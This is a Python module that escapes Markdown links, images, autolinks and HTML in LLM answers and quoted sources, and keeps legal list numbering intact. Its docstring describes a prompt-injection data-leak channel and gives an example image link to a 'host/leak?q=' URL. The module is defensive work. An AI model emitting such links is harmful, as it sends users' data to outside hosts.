"""Markdown that cannot make the browser reach another host (pure).

Answers, summaries and quoted sources come from documents and from the LLM, so they may carry
``![](http://host/leak?q=…)``: rendered as Markdown, the browser would fetch it, a data-leak
channel for prompt injection. Before such text is handed to ``st.markdown`` every construct that
can produce an image or a link is neutralised: brackets (inline, reference and image syntax),
angle brackets (autolinks, HTML), and bare URLs (GFM autolink literals) are escaped so that they
show as the plain characters they are. Emphasis and headings still render.

Legal text must keep its own numbering: Markdown would turn "1. …" lines into an ordered list and
renumber it (an item after a bold one, or a list starting at 제6호, comes out as "5."). So list
markers at line starts are escaped and the line breaks between such lines made hard; only
"- " bullets outside quoted source text stay bullets (the app and the model write those).
"""

from __future__ import annotations

import html
import re

_BARE_URL = re.compile(r"(?i)\b(https?|ftp|file)(:)(//)|\b(www)(\.)")


def safe_markdown(text: str) -> str:
    """`text` with links, images, autolinks and raw HTML shown literally."""
    text = text.replace("\\", "\\\\")  # a backslash in the text must not start an escape of ours
    text = text.replace("[", "\\[").replace("]", "\\]").replace("<", "\\<").replace(">", "\\>")
    return keep_item_markers(_BARE_URL.sub(_escape_url_start, text))


# Line prefix: blockquote marks (escaped by safe_markdown as "\\>", or a raw ">" in text built by
# the app), then the indent.
_QUOTE = re.compile(r"^((?:[ ]{0,3}\\?>[ ]?)*)([ \t]*)(.*)$")
_ORDERED = re.compile(r"^(\d{1,9})([.)])(?=\s|$)")
_BULLET = re.compile(r"^([-+*])(?=\s|$)")
_LEGAL_ITEM = re.compile(r"^(?:\*\*)?(?:\d{1,9}(?:의\d+)?\\?[.)]|[가-힣]\\?\.|[①-⑳㉑-㉟]|\(\d+\)|[○□■◦▪·※])")


def keep_item_markers(text: str) -> str:
    """`text` (Markdown) with list markers at line starts escaped so that numbers show as written;
    a line starting with such an item gets a hard break before it, so items stay on their own
    lines. "- " bullets stay bullets except in quoted ("> ") source text."""
    lines = text.split("\n")
    out: list[str] = []
    for line in lines:
        m = _QUOTE.match(line)
        quote, indent, rest = (m.group(1), m.group(2), m.group(3)) if m else ("", "", line)
        escaped = _ORDERED.sub(r"\1\\\2", rest, count=1)
        if quote.strip():
            escaped = _BULLET.sub(r"\\\1", escaped, count=1)
        if _LEGAL_ITEM.match(escaped):
            # An item line: drop the indent (4 spaces would make a code block) and break the line
            # before it, unless it opens a block.
            indent = ""
            if out and _QUOTE.match(out[-1]).group(3).strip() and not out[-1].endswith("  "):  # type: ignore[union-attr]
                out[-1] += "  "
        out.append(quote + indent + escaped)
    return "\n".join(out)


def safe_html_text(text: str) -> str:
    """`text` HTML-escaped for a raw-HTML block, with URL starts broken so nothing autolinks."""
    return _BARE_URL.sub(_entity_url_start, html.escape(text))


def _entity_url_start(m: re.Match[str]) -> str:
    if m.group(1):
        return f"{m.group(1)}&#58;//"
    return f"{m.group(4)}&#46;"


def _escape_url_start(m: re.Match[str]) -> str:
    if m.group(1):
        return f"{m.group(1)}\\:\\/\\/"
    return f"{m.group(4)}\\."
